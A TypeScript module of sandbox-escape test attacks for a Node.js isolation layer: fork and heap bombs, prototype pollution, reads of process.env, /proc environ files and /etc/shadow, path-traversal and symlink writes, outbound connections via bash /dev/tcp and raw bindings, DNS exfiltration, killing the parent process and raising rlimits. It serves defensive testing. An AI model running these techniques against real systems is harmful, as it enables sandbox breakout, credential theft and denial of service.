import { ChildProcess, spawn } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { Resolver } from 'node:dns/promises';
import { readdirSync, readFileSync, symlinkSync, writeFileSync, writeSync } from 'node:fs';
import { connect } from 'node:net';
import { join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';
import { setFlagsFromString } from 'node:v8';
import { runInThisContext } from 'node:vm';
import { isMainThread, parentPort } from 'node:worker_threads';
import type { AttackTarget } from './attack-target.js';

/**
 * Tools that attack the place where they run. Named by module and export, like any tool behind a wall. Each does as much
 * harm as shows that it could do more, and no more: whoever runs them unprotected gets his machine back.
 */

/* eslint-disable @typescript-eslint/require-await -- a tool that can be moved is an async function, whatever it does */

const mebibyte = 2 ** 20;

export async function loopBeforeAwait(): Promise<never> {
  spin(Infinity);
  await sleep(0);
  throw new Error('never here');
}

export async function loopAfterAwait(): Promise<never> {
  await sleep(1);
  spin(Infinity);
  throw new Error('never here');
}

export async function microtaskFlood(): Promise<never> {
  for (;;) await Promise.resolve();
}

export async function heapBomb(): Promise<number> {
  const kept: unknown[] = [];
  // 600 MiB of small objects: far over the limit, and far from the end of the machine.
  for (let i = 0; i < 600; i++) {
    kept.push(Array.from({ length: 8_192 }, (_, n) => ({ a: n, b: i, c: [n, i] })));
    await Promise.resolve();
  }
  await sleep(400);
  return kept.length;
}

export async function bufferBomb(): Promise<number> {
  const kept: Buffer[] = [];
  for (let i = 0; i < 600; i++) kept.push(Buffer.alloc(mebibyte, i % 255 | 1));
  await sleep(400);
  return kept.length;
}

export async function forkBomb({ nonce }: AttackTarget): Promise<void> {
  for (let i = 0; i < 40; i++) attempt(() => { launch(['sleep', sleepArgument(nonce)]); });
  await sleep(800);
}

export async function grandchild({ nonce }: AttackTarget): Promise<void> {
  // Its own session and no pipes: nothing ties it to who started it.
  attempt(() => { launch(['setsid', 'sleep', sleepArgument(nonce)]); });
  await sleep(300);
}

interface RawProcess {
  onexit: () => void;
  spawn(options: object): number;
  unref(): void;
}

/** By the usual door, and where that is closed by the one behind it. */
function launch([program = '', ...args]: readonly string[]): void {
  try {
    const child = spawn(program, args, { stdio: 'ignore', detached: true });
    child.on('error', () => undefined);
    child.unref();
  } catch {
    // Refused: what `spawn` is built on may not be.
    const Process = binding('process_wrap')['Process'] as new () => RawProcess;
    const child = new Process();
    child.onexit = () => undefined;
    child.spawn({ file: program, args: [program, ...args], detached: true, stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
    child.unref();
  }
}

/** Node's own door to what it is built on: undocumented, and open to whoever runs in the process. */
function binding(name: string): Readonly<Record<string, unknown>> {
  return (process as unknown as { binding(name: string): Readonly<Record<string, unknown>> }).binding(name);
}

/** Ends by itself, and is told from every other by its fraction of a second. */
export function sleepArgument(nonce: string): string {
  return `25.${String(Number.parseInt(nonce.slice(0, 8), 16)).padStart(10, '0')}1`;
}

export async function hugeResult(): Promise<string> {
  return 'x'.repeat(48 * mebibyte);
}

/** Read by its parent, it would run there. */
export async function liveResult({ nonce }: AttackTarget): Promise<unknown> {
  const pollute = (): string => {
    Object.defineProperty(Object.prototype, 'polluted', { value: nonce, configurable: true });
    return 'read';
  };
  return {
    toJSON: pollute,
    get text() {
      return pollute();
    },
  };
}

export async function protoKey({ nonce }: AttackTarget): Promise<unknown> {
  return JSON.parse(`{"__proto__":{"polluted":"${nonce}"},"settings":{"__proto__":{"polluted":"${nonce}"}}}`);
}

export async function environment(): Promise<string> {
  return JSON.stringify(process.env);
}

export async function procFiles({ parentPid }: AttackTarget): Promise<string> {
  const processes = ['self', String(process.ppid), String(parentPid), ...listed('/proc').filter((name) => /^\d+$/.test(name))];
  return processes.map((name) => textOf(`/proc/${name}/environ`)).join('\n');
}

export async function writeOutside({ outsideFile, nonce, workFolder }: AttackTarget): Promise<void> {
  const roundabout = `${workFolder}${'/..'.repeat(20)}${outsideFile}`;
  for (const file of [outsideFile, roundabout, `/proc/self/root${outsideFile}`]) attempt(() => { writeFileSync(file, nonce); });
}

export async function readOutside({ secretFile }: AttackTarget): Promise<string> {
  return [secretFile, `/proc/self/root${secretFile}`, '/etc/shadow'].map(textOf).join('\n');
}

export async function foundLink({ foundLink: link }: AttackTarget): Promise<string> {
  return textOf(link);
}

export async function madeLink({ workFolder, secretFile, outsideFile, nonce }: AttackTarget): Promise<string> {
  const [toRead, toWrite] = [join(workFolder, 'made-read'), join(workFolder, 'made-write')];
  attempt(() => { symlinkSync(secretFile, toRead); });
  attempt(() => { symlinkSync(outsideFile, toWrite); });
  attempt(() => { writeFileSync(toWrite, nonce); });
  return textOf(toRead);
}

export async function connectOut({ addresses: octets, tcpPort, nonce }: AttackTarget): Promise<void> {
  await Promise.all(
    octets.map(async (numbers) => {
      const socket = connect({ host: numbers.join('.'), port: tcpPort }, () => socket.end(nonce));
      socket.on('error', () => undefined);
      await sleep(300);
      socket.destroy();
    }),
  );
}

interface RawTcp {
  connect(request: object, host: string, port: number): number;
}

/** Past everything that replaces `net` and `fetch`: what they are built on, and a program that asks nobody. */
export async function connectRaw({ addresses: octets, tcpPort, nonce }: AttackTarget): Promise<void> {
  for (const host of octets.map((numbers) => numbers.join('.'))) {
    attempt(() => { launch(['bash', '-c', `exec 3<>/dev/tcp/${host}/${String(tcpPort)} && echo ${nonce} >&3`]); });
    attempt(() => {
      const { TCP: Tcp, TCPConnectWrap: Request } = binding('tcp_wrap') as Record<string, new (kind: number) => RawTcp>;
      if (Tcp !== undefined && Request !== undefined) new Tcp(0).connect(new Request(0), host, tcpPort);
    });
  }
  await sleep(500);
}

export async function dnsExfiltration({ udpPort, nonce }: AttackTarget): Promise<void> {
  const resolver = new Resolver({ timeout: 200, tries: 1 });
  await attemptLater(async () => {
    resolver.setServers([`127.0.0.1:${String(udpPort)}`]);
    await resolver.resolve4(`${nonce}.exfiltration.test`);
  });
  await attemptLater(async () => {
    const socket = createSocket('udp4');
    socket.on('error', () => undefined);
    socket.send(nonce, udpPort, '127.0.0.1');
    await sleep(200);
    socket.close();
  });
}

export async function killParent({ parentPid }: AttackTarget): Promise<void> {
  for (const signal of ['SIGKILL', 'SIGSTOP'] as const) attempt(() => process.kill(parentPid, signal));
  await sleep(200);
}

/** Aims at one process of the test: what such a handle signals without a process of its own is anybody's number. */
export async function internalHandles({ parentPid }: AttackTarget): Promise<void> {
  attempt(() => {
    const { _handle: handle } = new ChildProcess() as unknown as { readonly _handle: RawProcess }; // not in Node's types
    handle.onexit = () => undefined;
    handle.spawn({ file: '/bin/sh', args: ['sh', '-c', `kill -9 ${String(parentPid)}`], stdio: [{ type: 'ignore' }, { type: 'ignore' }, { type: 'ignore' }] });
  });
  await sleep(300);
}

export async function v8Flags({ outsideFile }: AttackTarget): Promise<void> {
  for (const flag of [`redirect-code-traces-to=${outsideFile}`, 'redirect-code-traces', 'print-opt-code', 'allow-natives-syntax']) attempt(() => { setFlagsFromString(`--${flag}`); });
  attempt(() => {
    const traced = runInThisContext('(a) => a + 1') as (a: number) => number;
    const optimize = runInThisContext('(f) => { %PrepareFunctionForOptimization(f); f(1); %OptimizeFunctionOnNextCall(f); f(2); }') as (f: unknown) => void;
    optimize(traced);
  });
  await sleep(200);
}

/** Ends the process that it runs in, by every door. */
export async function endProcess(): Promise<void> {
  attempt(() => process.kill(process.pid, 'SIGKILL'));
  await sleep(100);
  attempt(() => { process.abort(); });
  process.exit(0);
}

export async function raiseLimits(): Promise<void> {
  attempt(() => {
    // As high as they go without rights, and then higher.
    for (const name of ['fsize', 'cpu', 'data', 'as', 'nproc']) {
      const script = `hard=$(prlimit --pid $1 --${name} -o HARD --noheadings); prlimit --pid $1 --${name}=$hard:$hard; prlimit --pid $1 --${name}=unlimited:unlimited`;
      launch(['sh', '-c', script, 'sh', String(process.pid)]);
    }
  });
  await sleep(700);
}

export async function ignoreSigterm(): Promise<never> {
  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP'] as const) attempt(() => { process.on(signal, () => undefined); });
  for (;;) {
    spin(20);
    await sleep(0);
  }
}

export async function outputFlood(): Promise<void> {
  const chunk = 'x'.repeat(mebibyte);
  for (let i = 0; i < 64; i++) {
    attempt(() => process.stdout.write(chunk));
    for (const fd of [1, 2]) attempt(() => writeSync(fd, chunk));
    await sleep(1);
  }
}

/** Answers in the runtime's place: for its own call, for others, in no form at all. */
export async function forgedMessages({ nonce }: AttackTarget): Promise<string> {
  const value = { forged: nonce, __proto__: null };
  for (let i = 0; i < 200; i++) {
    for (const id of ['', '1', String(i), nonce]) {
      say(JSON.stringify({ t: 'value', id, value }), JSON.stringify({ t: 'loaded', id }), '{"t":"value","id":', `{"__proto__":{"polluted":"${nonce}"}}`);
    }
    say({ t: 'value', value }, null, new Uint8Array(100_000), 'x'.repeat(10_000));
  }
  await sleep(50);
  return 'done';
}

export async function messageFlood(): Promise<never> {
  const chunk = JSON.stringify({ t: 'item', id: '1', n: 0, value: 'x'.repeat(100_000) });
  for (let i = 0; ; i++) {
    say(chunk);
    if (i % 100 === 0) await sleep(0);
  }
}

/** On every line that could lead to the parent. */
function say(...messages: readonly unknown[]): void {
  for (const message of messages) {
    attempt(() => parentPort?.postMessage(message));
    attempt(() => process.send?.(message));
    const bytes = typeof message === 'string' ? `${message}\n` : JSON.stringify(message);
    // In a thread, these are its parent's own, and lead nowhere.
    if (isMainThread) for (const fd of [3, 4, 5]) attempt(() => writeSync(fd, bytes));
  }
}

function spin(ms: number): void {
  const end = performance.now() + ms;
  while (performance.now() < end);
}

function textOf(file: string): string {
  try {
    return readFileSync(file, 'utf8');
  } catch {
    // Refused or not there: nothing was brought out, which is what is asked.
    return '';
  }
}

function listed(folder: string): readonly string[] {
  try {
    return readdirSync(folder);
  } catch {
    // As above.
    return [];
  }
}

/** What is refused shows in that nothing happens; the next way is tried. */
function attempt(way: () => unknown): void {
  try {
    way();
  } catch {
    // Refused.
  }
}

async function attemptLater(way: () => Promise<unknown>): Promise<void> {
  try {
    await way();
  } catch {
    // Refused.
  }
}

/** No attack: what the parent calls before and after one, to see that the level works and that answers are right. */
export async function honest(n: number): Promise<{ readonly next: number }> {
  return { next: n + 1 };
}
